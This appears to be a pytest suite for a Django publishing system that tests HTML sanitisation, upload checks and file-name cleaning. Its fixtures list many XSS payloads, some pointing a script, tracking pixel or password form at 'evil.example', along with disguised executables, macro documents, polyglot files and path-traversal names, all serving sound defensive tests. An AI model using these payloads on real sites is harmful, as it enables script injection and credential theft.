"""What people paste and upload, meaning well or not: on the public page it is harmless, or it was refused."""

import base64
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from gongkai_web.publishing.content import content_of
from gongkai_web.publishing.models import Item, ItemFile
from gongkai_web.review import proofing
from review_desk import office_of
from writing_room import Room, browser, public_path, told

pytestmark = pytest.mark.django_db

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture
def room(agency):
    return Room(office_of(agency))


PASTED = {
    "a script": "<p>正文</p><script>alert(1)</script>",
    "a script in capitals": "<p>正文</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script cut in two": "<p>正文</p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler": '<p onclick="alert(1)">正文</p><img src=x onerror=alert(1)>',
    "a handler without quotes": "<p onmouseover=alert(1)>正文</p>",
    "a link that is a script": '<p><a href="javascript:alert(1)">正文</a></p>',
    "the same in disguise": '<p><a href="jav&#x09;ascript:alert(1)">正文</a><a href=" JaVaScRiPt:alert(1)">x</a></p>',
    "a link that is data": '<p><a href="data:text/html,<script>alert(1)</script>">正文</a></p>',
    "a link of visual basic": '<p><a href="vbscript:msgbox(1)">正文</a></p>',
    "a style": '<style>body{display:none}</style><p style="position:fixed;inset:0">正文</p>',
    "a style that fetches": '<p style="background:url(https://evil.example/x)">正文</p>',
    "a picture from elsewhere": '<p>正文</p><img src="https://evil.example/pixel.gif">',
    "the same without a scheme": '<p>正文</p><img src="//evil.example/pixel.gif" srcset="https://evil.example/2x 2x">',
    "a drawing with a script": "<p>正文</p><svg onload=alert(1)><script>alert(1)</script></svg>",
    "a drawing as a picture": '<p>正文</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "a page in a frame": '<p>正文</p><iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<p>正文</p><object data="x.swf"></object><embed src="x.swf">',
    "a form": '<p>正文</p><form action="https://evil.example/"><input name=password><button>登录</button></form>',
    "a base": '<base href="https://evil.example/"><p>正文</p>',
    "a redirect": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>正文</p>',
    "formulas that change the parser": "<p>正文</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a comment of a browser": "<!--[if IE]><script>alert(1)</script><![endif]--><p>正文</p>",
    "a comment that ends early": "<p>正文</p><!--><img src=x onerror=alert(1)>-->",
    "what Word brings": '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>@page{size:A4}</style>'
    '<xml><o:OfficeDocumentSettings/></xml></head><body lang=ZH-CN><p class=MsoNormal style="mso-pagination:none">'
    "<span lang=EN-US style='font-family:仿宋'>正文<o:p></o:p></span></p></body></html>",
    "a text area that does not end": "<p>正文</p><textarea><p onclick=alert(1)>",
    "a template": "<p>正文</p><template><script>alert(1)</script></template>",
    "an address that breaks out": '<p>正文</p><img src="file:%s&quot; onerror=&quot;alert(1)">' % ("0" * 64),
    "letters of a template": "<p>正文 {% load x %}{{ settings.SECRET_KEY }}</p>",
}  # fmt: skip


@pytest.mark.walk
@pytest.mark.parametrize("pasted", PASTED.values(), ids=PASTED)
def test_whatever_is_pasted_the_public_page_runs_and_fetches_nothing(room, pasted):
    item = room.climb(room.write(body=pasted))
    answer = browser().get(public_path(item))
    page = answer.content.decode()
    assert "正文" in told(answer)
    article = page[page.index("<article") : page.index("</article>")]
    for tag in re.findall(r"<[a-zA-Z!/][^>]*>", article):
        assert not re.search(r"\son\w+\s*=", tag), tag
        assert not re.search(r"(javascript|vbscript|data)\s*:", tag, re.IGNORECASE), tag
        assert not re.match(
            r"<(script|style|svg|math|iframe|object|embed|form|base|meta|link|template|textarea|input)\b",
            tag,
            re.IGNORECASE,
        ), tag
        assert "evil.example" not in tag, tag
        assert "style=" not in tag, tag
    assert "'unsafe-inline'" not in answer["Content-Security-Policy"]
    for name in ("item", "edit"):
        shown = room.open(room.office.drafter, reverse(f"writing:{name}", args=[item.pk]))
        assert shown.status_code in (200, 302)
        assert "<script>alert" not in shown.content.decode()


def test_a_title_and_metadata_are_words_and_nothing_else(room):
    evil = '"><script>alert(1)</script>'
    item = room.climb(
        room.write(title=f"标题{evil}", source=f"来源{evil}", summary=evil, keywords=evil)
    )
    for answer in (browser().get(public_path(item)), browser().get("/")):
        assert "<script>alert" not in answer.content.decode()
    room.edit(item, title=f"改过{evil}", act="submit")
    submission = item.submissions.first()
    for path in (
        reverse("writing:desk") + "?tab=review", reverse("writing:item", args=[item.pk]),
        reverse("writing:review", args=[item.pk, submission.pk]),
    ):  # fmt: skip
        assert "<script>alert" not in room.open(room.office.first, path).content.decode()
    room.review(
        room.office.first, submission, decision="return", remark=evil, quote=[evil], note=[evil]
    )
    edit = room.open(room.office.drafter, reverse("writing:edit", args=[item.pk]))
    assert "<script>alert" not in edit.content.decode()


def package(**more):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as parts:
        parts.writestr("[Content_Types].xml", more.pop("types", "<Types/>"))
        parts.writestr("word/document.xml", "<w:document/>")
        for name, data in more.items():
            parts.writestr(name.replace("__", "/"), data)
    return file.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
REFUSED = {
    "a drawing with a script": ("图.svg", SVG),
    "the same called a picture": ("图.png", SVG),
    "a page": ("页面.html", b"<script>alert(1)</script>"),
    "a page called text": ("页面.html.pdf", b"<html><script>alert(1)</script></html>"),
    "a program": ("程序.exe", b"MZ\x90\0"),
    "a program called a letter": ("通知.docx", b"MZ\x90\0"),
    "a letter with macros": ("通知.docm", package(word__vbaProject="x")),
    "the same renamed": ("通知.docx", package(**{"word__vbaProject.bin": b"x"})),
    "declared to hold macros": ("通知.docx", package(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')),
    "an old letter": ("通知.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 64),
    "an archive called a letter": ("通知.docx", b"PK\x05\x06" + b"\0" * 18),
    "a picture called a letter": ("通知.docx", PNG),
    "a letter called a picture": ("图.png", package()),
    "a picture with a page before it": ("图.png", b"<script>alert(1)</script>" + PNG),
    "nothing": ("空.txt", b""),
    "a text that is none": ("文.txt", b"\x00\x01\x02"),
    "no ending": ("附件", PNG),
    "two endings": ("图.png.exe", PNG),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data"), REFUSED.values(), ids=REFUSED)
def test_a_file_that_is_not_what_it_says_or_could_do_harm_is_refused_in_words(room, name, data):
    item = room.write()
    answer = room.edit(item, new_files=SimpleUploadedFile(name, data))
    assert answer.status_code in (409, 422)
    assert re.search("文件|空", told(answer))
    assert not ItemFile.objects.exists()
    assert Item.objects.get().attachments == []


POLYGLOTS = {
    "a PDF that begins as a page": ("公告.pdf", b"<script>alert(1)</script>\n%PDF-1.4\n1 0 obj\nstartxref\n0\n%%EOF"),
    "a picture that ends as a page": ("图.png", PNG + b"<script>alert(1)</script>"),
    "a text that is a page": ("说明.txt", b"<html><script>alert(1)</script></html>"),
    "a letter that ends as a page": ("通知.docx", package() + b"<script>alert(1)</script>"),
}  # fmt: skip


def _read_by_hand(reviewer, item):
    """Let a reviewer say that they read what the machine could not."""
    at = timezone.now()
    for row in proofing.seen(item, content_of(item), on=at.date()):
        if row.is_unread and row.blocks:
            proofing.mark(
                actor=reviewer, item=item, key=row.finding.key, decision="dismissed", at=at,
                reason="逐页看过原件",
            )  # fmt: skip


@pytest.mark.walk
@pytest.mark.parametrize(("name", "data"), POLYGLOTS.values(), ids=POLYGLOTS)
def test_two_things_in_one_file_stay_a_download(room, name, data):
    """Either refused, or sent so that no browser runs it: as what it says, never sniffed, in a sandbox."""
    item = room.write()
    answer = room.edit(item, new_files=SimpleUploadedFile(name, data))
    if answer.status_code != 200:
        assert not ItemFile.objects.exists()
        return
    room.submit(Item.objects.get())
    _read_by_hand(room.office.first, Item.objects.get())
    item = room.climb(Item.objects.get())
    file = item.attachments[0]
    public = reverse(
        "portal:item_file", args=[item.agency.code, item.pk, file["sha256"], file["name"]]
    )
    inside = reverse("writing:file", args=[item.pk, file["sha256"]])
    for sent in (browser().get(public), room.open(room.office.first, inside)):
        sent.close()
        assert sent.status_code == 200
        assert "html" not in sent["Content-Type"]
        assert "svg" not in sent["Content-Type"]
        assert sent["Content-Disposition"].startswith("attachment")
        assert sent["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in sent["Content-Security-Policy"]


@pytest.mark.walk
@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.txt",
        "..\\..\\boot.txt",
        "‮txt.exe.txt",
        "文" * 300 + ".txt",
    ],
)
def test_a_strange_name_becomes_a_plain_one(room, name):
    item = room.write()
    room.edit(item, new_files=SimpleUploadedFile(name, "文字".encode()))
    kept = ItemFile.objects.get()
    assert not re.search(r"[/\\\r\n\u202e]|\.\.", kept.name)
    assert len(kept.name) <= 140
    room.climb(Item.objects.get())
    path = reverse("portal:item_file", args=[item.agency.code, item.pk, kept.sha256, kept.name])
    sent = browser().get(path)
    sent.close()
    assert sent.status_code == 200


class TestPictures:
    def upload(self, room, name, data, by=None):
        return room.of(by or room.office.drafter).post(
            reverse("writing:upload", args=[room.office.agency.pk]),
            {"file": SimpleUploadedFile(name, data)},
        )

    def test_a_picture_in_the_text_is_one_of_the_house(self, room):
        made = self.upload(room, "图.png", PNG).json()
        item = room.write(body=f'<p>正文</p><img src="{made["url"]}" alt="公章">')
        _read_by_hand(room.office.first, item)
        item = room.climb(item)
        page = browser().get(public_path(item)).content.decode()
        shown = re.search(r'<img[^>]+src="([^"]+)"', page[page.index("<article") :]).group(1)
        picture = browser().get(shown)
        with (
            Image.open(io.BytesIO(b"".join(picture.streaming_content))) as shown,
            Image.open(io.BytesIO(PNG)) as sent,
        ):
            assert shown.tobytes() == sent.tobytes()
        picture.close()
        assert picture["Content-Type"] == "image/png"

    def test_a_pasted_picture_is_kept_and_shown(self, room):
        data = base64.b64encode(PNG).decode()
        item = room.write(body=f'<p>正文</p><img src="data:image/png;base64,{data}">')
        _read_by_hand(room.office.first, item)
        item = room.climb(item)
        assert "file:" in item.live_edition.content["body"]

    @pytest.mark.parametrize(
        ("name", "data"), [("图.svg", SVG), ("图.png", SVG), ("文.txt", b"text"), ("图.png", b"")]
    )
    def test_what_is_no_picture_is_refused(self, room, name, data):
        answer = self.upload(room, name, data)
        assert answer.status_code in (400, 422)
        assert answer.json()["error"]

    def test_nobody_uploads_for_another_agency(self, room, other_agency, person):
        stranger = person("stranger", other_agency, "officer")
        assert self.upload(room, "图.png", PNG, by=stranger).status_code == 404

    def test_a_picture_of_another_agency_does_not_come_with_its_checksum(self, room, other_agency):
        theirs = Room(office_of(other_agency, "t"))
        made = (
            theirs.of(theirs.office.drafter)
            .post(
                reverse("writing:upload", args=[other_agency.pk]),
                {"file": SimpleUploadedFile("图.png", PNG)},
            )
            .json()
        )
        item = room.write(body=f'<p>正文</p><img src="{made["url"]}">', act="submit")
        answer = room.review(room.office.first, item.submissions.get())
        assert (answer.status_code, "本单位没有这张图片" in told(answer)) == (409, True)
        _read_by_hand(room.office.first, item)
        item = room.climb(item)
        path = reverse("portal:item_picture", args=[item.agency.code, item.pk, made["sha256"]])
        assert browser().get(path).status_code == 404

    def test_a_picture_of_a_draft_is_not_public(self, room):
        made = self.upload(room, "图.png", PNG).json()
        item = room.write(body=f'<p>正文</p><img src="{made["url"]}">')
        path = reverse("portal:item_picture", args=[item.agency.code, item.pk, made["sha256"]])
        assert browser().get(path).status_code == 404
        assert browser().get(made["url"]).status_code == 302
